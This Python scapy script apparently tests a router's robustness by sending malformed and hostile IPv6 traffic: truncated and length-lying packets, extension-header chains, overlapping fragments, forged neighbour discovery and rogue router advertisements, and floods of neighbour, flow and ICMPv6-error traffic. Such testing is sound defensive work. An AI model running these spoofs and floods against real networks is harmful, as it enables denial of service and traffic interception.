#!/usr/bin/env python3
"""Throws malformed and hostile packets at a router, one kind a run; prints how many it sent.

    hostile.py KIND --interface eth0 --mac OWN --source OWN --router-mac M --router R --router-local LL
               --victim V --silent PREFIX [--rounds N]

KIND is one of the functions below. The victim is a host behind the router, PREFIX:: a link behind it where most
addresses are nobody's. The random numbers are the same in each run.
"""

import argparse
import random
import socket
import struct
import time

from scapy.config import conf
from scapy.layers.inet import TCP, UDP
from scapy.layers.inet6 import (
    in6_chksum,
    ICMPv6DestUnreach,
    ICMPv6EchoReply,
    ICMPv6EchoRequest,
    ICMPv6MLQuery,
    ICMPv6MLReport,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6ND_RS,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRedirectedHdr,
    ICMPv6NDOptSrcLLAddr,
    ICMPv6PacketTooBig,
    ICMPv6ParamProblem,
    ICMPv6TimeExceeded,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
)
from scapy.layers.ipsec import AH
from scapy.layers.l2 import Ether
from scapy.packet import Raw

ALL_NODES = "ff02::1"
ALL_ROUTERS = "ff02::2"
ICMPV6 = 58
FRAGMENT = 44
DESTINATION_OPTIONS = 60
ROUTING = 43
HOP_BY_HOP = 0
NO_NEXT_HEADER = 59


def ether(world, to_router=True):
    return Ether(src=world.mac, dst=world.router_mac if to_router else "33:33:00:00:00:01")


def plain(world, packet):
    return bytes(ether(world) / packet)


def raw6(world, destination, next_header, payload, length=None, version=6, hop_limit=64):
    """A packet of octets, whatever its header says of them."""
    header = struct.pack("!IHBB", version << 28, len(payload) if length is None else length, next_header, hop_limit)
    addresses = socket.inet_pton(socket.AF_INET6, world.source) + socket.inet_pton(socket.AF_INET6, destination)
    return bytes(ether(world))[:12] + b"\x86\xdd" + header + addresses + payload


def echo_to(world, destination):
    """An echo request of which the checksum holds, wherever it is put."""
    message = bytes(ICMPv6EchoRequest(id=1, seq=1, cksum=0, data=b"e" * 8))
    checksum = in6_chksum(ICMPV6, IPv6(src=world.source, dst=destination), message)
    return message[:2] + struct.pack("!H", checksum) + message[4:]


def lengths(world):
    """Lengths that lie, and every truncation of packets of each kind."""
    for destination in (world.victim, world.router, world.router_local, ALL_NODES):
        ip = IPv6(src=world.source, dst=destination)
        whole = [
            ip / ICMPv6EchoRequest(data=b"x" * 32),
            ip / UDP(sport=1, dport=9) / Raw(b"y" * 32),
            ip / TCP(sport=1, dport=9, flags="S", options=[("MSS", 1440)]),
            IPv6(src=world.source, dst=destination, hlim=255)
            / ICMPv6ND_NS(tgt=world.router)
            / ICMPv6NDOptSrcLLAddr(lladdr=world.mac),
            ip / IPv6ExtHdrFragment(m=1) / UDP(sport=1, dport=9) / Raw(b"z" * 32),
            ip / IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / ICMPv6EchoRequest(),
        ]
        for packet in whole:
            octets = plain(world, packet)
            for length in range(15, len(octets)):
                yield octets[:length]
            # The header's length: nothing, less, more, all that 16 bits can say.
            for claimed in (0, 1, 7, 8, len(octets), 1500, 65535):
                yield octets[:18] + struct.pack("!H", claimed) + octets[20:]
            for version in (0, 4, 5, 7, 15):
                yield octets[:14] + bytes([version << 4]) + octets[15:]
        payload = echo_to(world, destination)
        # Jumbo payload option (RFC 2675), with length 0 and without.
        jumbo = struct.pack("!BBBBI", ICMPV6, 0, 0xC2, 4, 100000)
        yield raw6(world, destination, HOP_BY_HOP, jumbo + payload, length=0)
        yield raw6(world, destination, HOP_BY_HOP, jumbo + payload)
        # UDP and TCP headers that claim more than there is.
        yield raw6(world, destination, 17, struct.pack("!HHHH", 1, 9, 60000, 0) + b"u" * 8)
        yield raw6(world, destination, 17, struct.pack("!HHHH", 1, 9, 0, 0))
        yield raw6(world, destination, 6, struct.pack("!HHIIBBHHH", 1, 9, 0, 0, 0xF0, 2, 0, 0, 0))
        # Trailing octets behind the packet, up to the largest frame.
        yield plain(world, ip / ICMPv6EchoRequest()) + b"\xff" * 1400
    for octets in range(14, 60):
        yield bytes(ether(world))[:12] + b"\x86\xdd" + b"\x60" * (octets - 14)


def options_header(next_header, options, count=None):
    """An options header; `count` is what it claims of its length, in 8 octets behind the first."""
    body = options + b"\x00" * (-(len(options) + 2) % 8)
    return bytes([next_header, (len(body) + 2) // 8 - 1 if count is None else count]) + body


def chains(world):
    """Chains of extension headers: hundreds of them, out of order, without end, with options of every kind."""
    pad = b"\x01\x04\x00\x00\x00\x00"
    for destination in (world.victim, world.router, ALL_NODES):
        echo = echo_to(world, destination)
        for depth in (1, 2, 8, 16, 64, 100, 170):
            for kind in (DESTINATION_OPTIONS, HOP_BY_HOP, ROUTING, 51, 135, 139, 140):
                body = pad if kind in (DESTINATION_OPTIONS, HOP_BY_HOP, 135) else b"\x00" * 6
                chain = b"".join(bytes([kind, 0]) + body for _ in range(depth - 1)) + bytes([ICMPV6, 0]) + body
                yield raw6(world, destination, kind, chain + echo)
                # It ends in the middle of a header, and in nothing.
                yield raw6(world, destination, kind, chain[:-3])
                yield raw6(world, destination, kind, chain)
        for depth in (2, 50, 150):
            fragments = b"".join(struct.pack("!BBHI", FRAGMENT, 0, 1, n) for n in range(depth))
            yield raw6(world, destination, FRAGMENT, fragments + echo)
        for claimed in (1, 16, 128, 255):
            yield raw6(world, destination, DESTINATION_OPTIONS, options_header(ICMPV6, pad, claimed) + echo)
            yield raw6(world, destination, HOP_BY_HOP, options_header(ICMPV6, pad, claimed) + echo)
        options = [
            b"\x00" * 6,  # Pad1 alone
            b"\x00" * 1398,
            b"\x01\x00" * 3,  # PadN of nothing
            b"\x01\x00" * 699,
            b"\x01\xff\x00\x00\x00\x00",  # longer than its header
            b"\x05\x02\x00\x00\x01\x00",  # router alert
            b"\x05\x00\x01\x00\x01\x00",
            b"\xc2\x04\x00\x00\x00\x00",
            b"\x07\x02\x00\x00\x01\x00",
        ]
        # Options that nobody knows: skip, discard, discard and tell, discard and tell if not multicast (RFC 8200 4.2).
        options += [bytes([action << 6 | 0x1E, 4, 0, 0, 0, 0]) for action in range(4)]
        for body in options:
            for kind in (HOP_BY_HOP, DESTINATION_OPTIONS):
                yield raw6(world, destination, kind, options_header(ICMPV6, body) + echo)
                yield raw6(world, destination, kind, options_header(NO_NEXT_HEADER, body))
        for next_header in range(256):
            yield raw6(world, destination, next_header, b"\x00" * 40)
        # Routing headers (RFC 5095): type 0 through the router to the victim and back, others, lengths that lie.
        for kind in (0, 1, 2, 3, 4, 253):
            for left in (0, 1, 2, 255):
                address = socket.inet_pton(socket.AF_INET6, world.victim)
                header = bytes([ICMPV6, 4, kind, left, 0, 0, 0, 0]) + address * 2
                yield raw6(world, destination, ROUTING, header + echo)
                yield raw6(world, destination, ROUTING, bytes([ICMPV6, 255]) + header[2:] + echo)
        yield plain(
            world,
            IPv6(src=world.source, dst=destination)
            / IPv6ExtHdrRouting(addresses=[world.victim] * 40)
            / ICMPv6EchoRequest(),
        )
        yield plain(world, IPv6(src=world.source, dst=destination) / AH(icv=b"i" * 12) / ICMPv6EchoRequest())


def fragments(world):
    """Fragments: atomic, tiny, overlapping, beyond the end, without a beginning; of neighbour discovery too (RFC 6980)."""
    for destination in (world.victim, world.router, world.router_local, ALL_NODES):
        base = IPv6(src=world.source, dst=destination)
        payload = bytes(UDP(sport=1, dport=9) / Raw(b"f" * 64))
        for identification in range(60):

            def piece(offset, more, octets, next_header=17):
                header = IPv6ExtHdrFragment(nh=next_header, offset=offset, m=more, id=identification)
                return plain(world, base / header / Raw(octets))

            yield piece(0, 0, payload)  # atomic (RFC 6946)
            yield piece(0, 1, payload[:8])  # the first, with no upper-layer header to look at
            yield piece(0, 1, b"")
            yield piece(1, 1, payload[8:24])
            yield piece(1, 1, payload[:16])  # overlapping (RFC 5722)
            yield piece(0, 1, payload[:32])
            yield piece(0, 1, payload[:33])  # not a multiple of 8
            yield piece(8191, 0, b"e" * 64)  # beyond 65535 octets
            yield piece(8191, 1, b"e" * 64)
            yield piece(100, 0, payload)  # the end of what never began
            yield piece(0, 1, bytes([HOP_BY_HOP, 0, 1, 4, 0, 0, 0, 0]), DESTINATION_OPTIONS)
        solicitation = IPv6(src=world.source, dst=destination, hlim=255) / IPv6ExtHdrFragment(nh=ICMPV6, id=7)
        body = ICMPv6ND_NS(tgt=world.router) / ICMPv6NDOptSrcLLAddr(lladdr="02:00:00:66:66:66")
        yield plain(world, solicitation / body)
        # Headers up to the end of the first fragment, the rest in another.
        yield raw6(
            world, destination, FRAGMENT, struct.pack("!BBHI", DESTINATION_OPTIONS, 0, 1, 9) + bytes([ICMPV6, 20]) + b"\0" * 6
        )


def discovery(world):
    """Neighbour discovery that must not be believed (RFC 4861 6.1, 7.1, 8.1), and some that might be."""
    group = "ff02::1:ff00:1"
    bad_mac = "02:00:00:66:66:66"
    targets = (world.router, world.router_local, world.victim, world.source, "::", ALL_NODES, group, "2001:db8:ffff::1")
    sources = (world.source, "::", world.router, world.router_local, world.victim, ALL_NODES, "::1", "fe80::6666")
    messages = []
    for target in targets:
        messages += [
            ICMPv6ND_NS(tgt=target) / ICMPv6NDOptSrcLLAddr(lladdr=bad_mac),
            ICMPv6ND_NS(tgt=target),
            ICMPv6ND_NA(tgt=target, R=0, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=bad_mac),
            ICMPv6ND_NA(tgt=target, R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=bad_mac),
            ICMPv6ND_NA(tgt=target, R=1, S=0, O=0),
            ICMPv6ND_Redirect(tgt=world.source, dst=target)
            / ICMPv6NDOptDstLLAddr(lladdr=bad_mac)
            / ICMPv6NDOptRedirectedHdr(pkt=IPv6(src=world.router, dst=target)),
        ]
    for lladdr in ("ff:ff:ff:ff:ff:ff", "33:33:00:00:00:01", "00:00:00:00:00:00", world.router_mac):
        messages.append(ICMPv6ND_NS(tgt=world.router) / ICMPv6NDOptSrcLLAddr(lladdr=lladdr))
        messages.append(ICMPv6ND_RS() / ICMPv6NDOptSrcLLAddr(lladdr=lladdr))
    messages += [
        ICMPv6ND_RA(routerlifetime=9000, prf=1)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:666::", prefixlen=64)
        / ICMPv6NDOptMTU(mtu=68),
        ICMPv6ND_RA(routerlifetime=0),
        ICMPv6ND_RS(),
        # Options of length zero, of 255, half of one, unknown ones.
        ICMPv6ND_NS(tgt=world.router) / Raw(b"\x01\x00" + bytes(6)),
        ICMPv6ND_NS(tgt=world.router) / Raw(b"\x01\xff" + bytes(6)),
        ICMPv6ND_NS(tgt=world.router) / Raw(b"\x01\x01\x02"),
        ICMPv6ND_NS(tgt=world.router) / Raw(b"\xfd\x01" + bytes(6)),
        ICMPv6ND_RS() / Raw(b"\x01\x00" + bytes(6)),
        ICMPv6ND_NA(tgt=world.router, O=1) / Raw(b"\x02\x00" + bytes(6)),
    ]
    for message in messages:
        for source in sources:
            for destination in (world.router, world.router_local, ALL_NODES, ALL_ROUTERS, group):
                for hop_limit in (255, 254):
                    packet = IPv6(src=source, dst=destination, hlim=hop_limit) / message
                    yield plain(world, packet)
                    if hop_limit == 255 and source == world.source:
                        # Wrong checksum, wrong code, cut short.
                        octets = plain(world, packet)
                        yield octets[:56] + bytes([octets[56] ^ 0x5A]) + octets[57:]
                        yield octets[:55] + b"\x01" + octets[56:]
                        yield octets[:70]


SOURCE, DESTINATION, UPPER = 22, 38, 54


def changed(frame, **at):
    """A copy of a frame with a few 16-bit numbers put where they are: it is no matter that its checksum does not hold."""
    octets = bytearray(frame)
    for place, number in at.values():
        octets[place : place + 2] = struct.pack("!H", number)
    return bytes(octets)


def any_number():
    return random.randrange(1, 1 << 16)


def flood_of_neighbours(world):
    """Destinations behind the router that nobody has, and neighbours on our own link that nobody knows."""
    frame = plain(world, IPv6(src=world.source, dst=f"{world.silent}1") / UDP(sport=1, dport=9))
    for number in range(12000):
        yield changed(frame, a=(DESTINATION + 8, any_number()), b=(DESTINATION + 12, number))
    prefix = ":".join(world.source.split(":")[:3])
    for number in range(1000):
        source = f"{prefix}::6666:{number:x}"
        lladdr = "02:66:66:00:%02x:%02x" % (number >> 8, number & 255)
        packet = IPv6(src=source, dst=world.router, hlim=255)
        yield plain(world, packet / ICMPv6ND_NS(tgt=world.router) / ICMPv6NDOptSrcLLAddr(lladdr=lladdr))


def flood_of_flows(world):
    """New flows: any ports, any sources, TCP with any flags, UDP, echo and first fragments."""
    ip = IPv6(src=world.source, dst=world.victim)
    frames = [plain(world, ip / UDP(sport=1, dport=9)), plain(world, ip / ICMPv6EchoRequest(id=1))]
    frames += [plain(world, ip / TCP(sport=1, dport=9, flags=flags)) for flags in ("S", "SA", "A", "R", "F", "FPU", "")]
    for number in range(24000):
        frame = frames[number % len(frames)]
        if number % 3:
            frame = changed(frame, a=(SOURCE + 12, 0x7777), b=(SOURCE + 14, any_number()))
        if frame[20] == ICMPV6:
            yield changed(frame, a=(UPPER + 4, any_number()))
        else:
            yield changed(frame, a=(UPPER, any_number()), b=(UPPER + 2, any_number()))
    for number in range(2000):
        yield plain(world, ip / IPv6ExtHdrFragment(nh=17, offset=0, m=1, id=number)) + struct.pack("!HHHH", number + 1, 9, 8, 0)


def flood_of_errors(world):
    """What asks for an ICMPv6 error each, and what never may (RFC 4443 2.4 e); listener reports and queries."""
    from_here = IPv6(src=world.source, dst=world.victim)
    provoking = [
        IPv6(src=world.source, dst=world.victim, hlim=1) / UDP(sport=1, dport=9),
        IPv6(src=world.source, dst=world.victim, hlim=0) / UDP(sport=1, dport=9),
        IPv6(src=world.source, dst="2001:db8:dead::1") / UDP(sport=1, dport=9),
        IPv6(src=world.source, dst=world.router) / UDP(sport=1, dport=9),
        IPv6(src=world.source, dst=world.router) / TCP(sport=1, dport=9, flags="S"),
        IPv6(src=world.source, dst=world.router, nh=253) / Raw(bytes(40)),
        IPv6(src=world.source, dst="fe80::1234") / UDP(sport=1, dport=9),
        raw6(world, world.router, DESTINATION_OPTIONS, options_header(ICMPV6, b"\x9e\x04" + bytes(4)) + echo_to(world, world.router)),
    ]
    forbidden = [
        IPv6(src=world.source, dst=world.victim, hlim=1) / ICMPv6DestUnreach() / from_here,
        IPv6(src=world.source, dst="2001:db8:dead::1") / ICMPv6TimeExceeded() / from_here,
        IPv6(src=world.source, dst="2001:db8:dead::1") / ICMPv6PacketTooBig(mtu=0) / from_here,
        IPv6(src=world.source, dst="2001:db8:dead::1") / ICMPv6ParamProblem() / from_here,
        IPv6(src="::", dst=world.victim) / UDP(sport=1, dport=9),
        IPv6(src="::1", dst=world.victim) / UDP(sport=1, dport=9),
        IPv6(src="ff02::6", dst=world.victim, hlim=1) / UDP(sport=1, dport=9),
        IPv6(src=world.router, dst=world.victim, hlim=1) / UDP(sport=1, dport=9),
        IPv6(src=world.router, dst=world.router) / ICMPv6EchoRequest(),
        IPv6(src=world.source, dst="ff05::6", hlim=1) / UDP(sport=1, dport=9),
        IPv6(src=world.source, dst="ff0e::6") / ICMPv6EchoRequest(),
        IPv6(src="fe80::6666", dst="2001:db8:dead::1") / UDP(sport=1, dport=9),
        IPv6(src=world.source, dst=world.router) / ICMPv6EchoReply(),
        IPv6(src="fe80::6666", dst=ALL_NODES, hlim=1) / ICMPv6MLQuery(mrd=1),
        IPv6(src="fe80::6666", dst=ALL_NODES, hlim=1) / ICMPv6MLQuery(mrd=65535, mladdr="ff02::6"),
        IPv6(src="fe80::6666", dst="ff02::6", hlim=1) / ICMPv6MLReport(mladdr="ff02::6"),
        IPv6(src="fe80::6666", dst="ff02::16", hlim=1) / ICMPv6MLReport(mladdr="::"),
    ]
    octets = [packet if isinstance(packet, bytes) else plain(world, packet) for packet in provoking + forbidden]
    for _ in range(400):
        yield from octets
    # A long echo, many times: the answers are the router's work.
    echo = plain(world, IPv6(src=world.source, dst=world.router) / ICMPv6EchoRequest(data=b"e" * 1400))
    for _ in range(2000):
        yield echo


KINDS = [lengths, chains, fragments, discovery, flood_of_neighbours, flood_of_flows, flood_of_errors]


# Frames of a flood in a second: what a node takes that is built for tests.
FLOOD_RATE = 40_000


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=[kind.__name__ for kind in KINDS])
    for option in ("interface", "mac", "source", "router-mac", "router", "router-local", "victim", "silent"):
        parser.add_argument(f"--{option}", required=True)
    parser.add_argument("--rounds", type=int, default=1)
    world = parser.parse_args()
    conf.verb = 0
    random.seed(1)
    kind = next(kind for kind in KINDS if kind.__name__ == world.kind)
    # All is built before any is sent.
    frames = list(kind(world))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.bind((world.interface, 0))
        begun = time.monotonic()
        sent = 0
        for frame in frames * world.rounds:
            # What the interface itself cannot send is not for the router to refuse.
            if 14 < len(frame) <= 1514:
                out.send(frame)
                sent += 1
                if sent % 64 == 0:
                    if kind.__name__.startswith("flood"):
                        # A sender at full speed would keep the node from the two cores that both share, and most
                        # frames from the guest.
                        ahead = begun + sent / FLOOD_RATE - time.monotonic()
                        if ahead > 0:
                            time.sleep(ahead)
                    else:
                        # Each malformed one is to be looked at, so they come no faster than a small queue takes them.
                        time.sleep(0.005)
        print(f"sent {sent} in {time.monotonic() - begun:.3f} s")


main()
